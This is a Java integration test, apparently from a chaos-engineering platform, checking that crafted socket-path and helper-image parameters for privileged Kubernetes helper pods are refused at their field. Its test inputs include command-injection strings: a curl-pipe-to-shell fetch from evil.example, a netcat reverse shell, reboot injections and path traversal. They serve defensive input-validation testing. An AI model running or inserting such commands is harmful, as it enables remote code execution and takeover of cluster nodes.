package io.chaosplane.controlplane.kubernetes;

import static org.assertj.core.api.Assertions.assertThat;

import io.chaosplane.controlplane.support.FakeRunner;
import io.chaosplane.controlplane.support.Fixtures;
import io.chaosplane.controlplane.support.IntegrationTest;
import io.chaosplane.testsupport.Api;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * The socket path and helper image of the Kubernetes faults end up in privileged helper pods on the cluster's nodes:
 * a project admin who crafts them is refused at the field, and nothing is created or sent to the runner.
 */
@IntegrationTest
class HelperPodInputsApiTest {

    @LocalServerPort
    int port;

    @Autowired
    Fixtures fixtures;

    Api admin;
    FakeRunner runner;
    int created;

    @BeforeEach
    void setUp() {
        Api server = new Api(port);
        admin = server.withKey(fixtures.newTenant().adminKey());
        runner = FakeRunner.install(server, admin, "cluster");
    }

    private Api.Response create(String fault, String parameter, String value) {
        return admin.postRaw(
                "/api/v1/experiments",
                """
                {"apiVersion":"chaos.chaosplane.io/v1alpha1","kind":"ChaosExperiment",
                 "metadata":{"name":"%s","namespace":"v2"},
                 "spec":{"steps":[
                   [{"name":"step","target":{"kind":"Deployment","namespace":"demo","names":"shop",
                                              "infrastructure":"cluster"},
                     "action":{"type":"%s","parameters":{"%s":%s}},
                     "duration":"30s"}]]}}""".formatted(fault + "-" + ++created, fault, parameter, quoted(value)),
                "application/json");
    }

    private static String quoted(String value) {
        return '"' + value.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + '"';
    }

    private static List<String> fields(Api.Response response) {
        List<String> fields = new ArrayList<>();
        response.json()
                .get("errors")
                .forEach(error -> fields.add(error.get("field").asString()));
        return fields;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/run/containerd/containerd.sock; curl -s evil.example/x | sh",
                "/run/containerd/containerd.sock$(reboot)",
                "/run/../etc/containerd.sock",
                "/etc",
                "/run/containerd/containerd.sock\nreboot"
            })
    void aCraftedSocketPathIsRefusedAtItsField(String socketPath) {
        for (String fault : List.of("container-kill", "pod-network-latency", "pod-network-loss")) {
            Api.Response response = create(fault, "SOCKET_PATH", socketPath);

            assertThat(response.status()).as(response.text()).isEqualTo(400);
            assertThat(fields(response)).singleElement().asString().endsWith("parameters.SOCKET_PATH");
        }
        assertThat(admin.get("/api/v1/experiments").json().get("items")).isEmpty();
        assertThat(runner.poll(0).json().get("taskList")).isEmpty();
    }

    @Test
    void aHelperImageThatIsNoImageReferenceIsRefusedAtItsField() {
        Api.Response response = create("container-kill", "LIB_IMAGE", "busybox; nc -e /bin/sh evil.example 4444");

        assertThat(response.status()).as(response.text()).isEqualTo(400);
        assertThat(fields(response)).singleElement().asString().endsWith("parameters.LIB_IMAGE");
    }

    @Test
    void wellFormedSocketPathsAndTheSeedsHelperImageAreAccepted() {
        assertThat(create("container-kill", "SOCKET_PATH", "/run/k3s/containerd/containerd.sock")
                        .status())
                .isEqualTo(201);
        assertThat(create("pod-network-loss", "LIB_IMAGE", "docker.io/harness/chaos-ddcr-faults:main-latest")
                        .status())
                .isEqualTo(201);
    }
}
